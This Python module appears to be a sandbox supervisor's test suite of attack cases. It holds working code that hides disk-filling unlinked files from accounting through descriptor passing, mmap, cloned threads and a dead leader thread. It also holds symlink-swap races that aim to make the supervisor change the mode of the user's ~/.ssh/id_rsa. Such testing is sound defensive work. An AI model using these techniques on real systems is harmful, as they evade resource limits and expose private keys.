"""Filling the disk with files that no list shows, and leading whoever counts them astray."""

import os
from typing import Any

from .attack import After, Attack
from .signs import held_out, private_mode_changed

_LIMIT = {"disk_bytes": 40 << 20, "wall_s": 10.0}
WATCHED = "the supervisor of every level ends it"
FOLLOWS_NO_LINK = "the supervisor of every level follows no link"

#: Opens files that have no name any more, one after another: four times what is allowed, in pieces that the limit on
#: one file lets pass.
_NAMELESS = """
def nameless():
    for _ in range(20):
        fd = os.open("part", os.O_CREAT | os.O_EXCL | os.O_RDWR, 0o600)
        os.unlink("part")
        os.write(fd, bytes(8 << 20))
        yield fd
"""
_LINGER = """
time.sleep(0.4)
tell()
"""


def _swapped(mode: str, target: str) -> str:
    """Return code that swaps many directories of a mode for links to a target, and back, for some looks at them.

    Each is made anew every time, for a look may have changed it.
    """
    return f"""
names = [(b"hidden%d" % k, b"bait%d" % k) for k in range(40)]
for hidden, bait in names:
    os.mkdir(hidden, {mode})
    os.symlink({target}, bait)
began = time.monotonic()
while time.monotonic() - began < 2.5:
    for hidden, bait in names:
        syscall(number(316, 276), -100, hidden, -100, bait, 2)
    for hidden, bait in names:
        syscall(number(316, 276), -100, hidden, -100, bait, 2)
        os.rmdir(hidden)
        os.mkdir(hidden, {mode})
"""


def _was_counted(after: After) -> bool:
    return after.outcome.status == "disk"


def _fill(scene: Any, over: Any) -> None:
    """Put more into a directory of the user's than the job may write."""
    with (scene.open_place / "large").open("wb") as file:
        os.posix_fallocate(file.fileno(), 0, 80 << 20)
    over.wait()


ATTACKS = [
    Attack(
        "watch_led_to_a_private_file",
        "Swap a directory that may not be listed for a link to a user's file while it is counted, so that whoever "
        "makes the directory listable does it to the file.",
        _swapped("0o300", "C['home'] + '/.ssh/id_rsa'"),
        private_mode_changed,
        control=False,
        without=FOLLOWS_NO_LINK,
        ends=("ok", "disk"),
    ),
    Attack(
        "watch_led_to_a_large_directory",
        "Swap a directory for a link to a large one of the user's, so that its size is taken for the job's.",
        _swapped("0o700", "C['open']"),
        _was_counted,
        control=False,
        without=FOLLOWS_NO_LINK,
        ends=("ok",),
        limits=_LIMIT,
        during=_fill,
    ),
    Attack(
        "disk_bomb_of_an_undumpable_process",
        "Write into files without a name after forbidding everybody to look at what is held open (PR_SET_DUMPABLE).",
        _NAMELESS + "libc.prctl(4, 0, 0, 0, 0)\nheld = list(nameless())" + _LINGER,
        held_out,
        control=False,
        without=WATCHED,
        ends=("disk", "error"),
        limits=_LIMIT,
    ),
    Attack(
        "disk_bomb_under_way",
        "Send descriptors of files without a name into a socket, where no process holds them (SCM_RIGHTS).",
        _NAMELESS
        + """
pairs = [socket.socketpair() for _ in range(20)]
for (ours, _), fd in zip(pairs, nameless()):
    socket.send_fds(ours, [b"x"], [fd])
    os.close(fd)
"""
        + _LINGER,
        held_out,
        ends=("disk", "error"),
        limits=_LIMIT,
    ),
    Attack(
        "disk_bomb_mapped",
        "Map a page of each file without a name, and close it.",
        _NAMELESS
        + """
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
for fd in nameless():
    assert libc.mmap(None, 4096, 1, 1, fd, 0) != ctypes.c_void_p(-1).value
    os.close(fd)
"""
        + _LINGER,
        held_out,
        control=False,
        without=WATCHED,
        ends=("disk", "memory", "error"),
        limits=_LIMIT,
    ),
    Attack(
        "disk_bomb_mapped_privately",
        "The same by a mapping of one's own.",
        _NAMELESS
        + """
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t, ctypes.c_int, ctypes.c_int, ctypes.c_int, ctypes.c_long]
for fd in nameless():
    assert libc.mmap(None, 4096, 1, 2, fd, 0) != ctypes.c_void_p(-1).value
    os.close(fd)
"""
        + _LINGER,
        held_out,
        control=False,
        without=WATCHED,
        ends=("disk", "memory", "error"),
        limits=_LIMIT,
    ),
    Attack(
        "disk_bomb_of_a_cloned_thread",
        "Leave them open in a thread with descriptors of its own: clone without CLONE_FILES, then close them here.",
        _NAMELESS
        + """
pause, stacks = ctypes.cast(libc.pause, ctypes.c_void_p), mmap.mmap(-1, 20 << 16)
top = ctypes.addressof(ctypes.c_char.from_buffer(stacks))
for fd in nameless():
    top += 1 << 16
    checked(libc.clone(pause, ctypes.c_void_p(top), 0x100 | 0x200 | 0x800 | 0x10000 | 0x40000, None))
    os.close(fd)
"""
        + _LINGER,
        held_out,
        ends=("disk", "error"),
        limits=_LIMIT,
    ),
    Attack(
        "disk_bomb_of_a_parted_thread",
        "The same in a thread of Python's that parts with the descriptors of its process (CLOSE_RANGE_UNSHARE).",
        _NAMELESS
        + """
parted = threading.Event()
def hold():
    syscall(436, 1000, 1001, 2)
    held = list(nameless())
    parted.set()
    time.sleep(20)
threading.Thread(target=hold, daemon=True).start()
assert parted.wait(5)
"""
        + _LINGER,
        held_out,
        control=False,
        without=WATCHED,
        ends=("disk", "error"),
        limits=_LIMIT,
    ),
    Attack(
        "disk_bomb_behind_a_dead_leader",
        "Leave them open in a process whose first thread has ended: the kernel lists nothing for it any more.",
        _NAMELESS
        + """
def hold():
    time.sleep(0.1)
    held = list(nameless())
    os.write(write, b"!")
    time.sleep(20)
read, write = os.pipe()
if os.fork() == 0:
    threading.Thread(target=hold).start()
    libc.syscall(ctypes.c_long(number(60, 93)), 0)
os.read(read, 1)
"""
        + _LINGER,
        held_out,
        control=False,
        without=WATCHED,
        ends=("disk", "error"),
        limits=_LIMIT,
    ),
]
